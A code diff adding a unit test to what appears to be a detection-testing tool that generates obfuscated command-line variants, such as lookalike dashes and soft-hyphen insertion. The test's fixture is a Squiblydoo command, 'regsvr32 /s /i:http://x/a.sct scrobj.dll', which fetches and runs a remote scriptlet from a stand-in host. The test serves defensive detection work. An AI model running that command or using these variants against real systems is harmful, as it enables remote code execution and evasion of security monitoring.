@@ -79,3 +79,14 @@ test('a command line of 5,000 options varies the first 16 and says how many more
   assert.equal(variants.filter((v) => v.technique === 'option-char-substitution').length, MAX_VARIED_OPTIONS);
   assert.equal(optionsLeftOut((name) => fields[name]), 5000 - MAX_VARIED_OPTIONS);
 });
+
+test('regsvr32 (Squiblydoo): the dashes of lint\'s table and a soft hyphen after the option character, no case variant (ArgFuscator records none)', () => {
+  const fields: Record<string, string> = { CommandLine: 'regsvr32 /s /i:http://x/a.sct scrobj.dll', Image: 'C:\\Windows\\System32\\regsvr32.exe' };
+  const options = generateVariants((name) => fields[name]).filter((v) => v.option).map((v) => [v.technique, v.option!.to]);
+  assert.deepEqual(options, [
+    ['option-char-substitution', '-s'], ['option-char-substitution', '–s'], ['option-char-substitution', '—s'], ['option-char-substitution', '―s'],
+    ['character-insertion', '/\u00ads'],
+    ['option-char-substitution', '-i'], ['option-char-substitution', '–i'], ['option-char-substitution', '—i'], ['option-char-substitution', '―i'],
+    ['character-insertion', '/\u00adi'],
+  ]);
+});
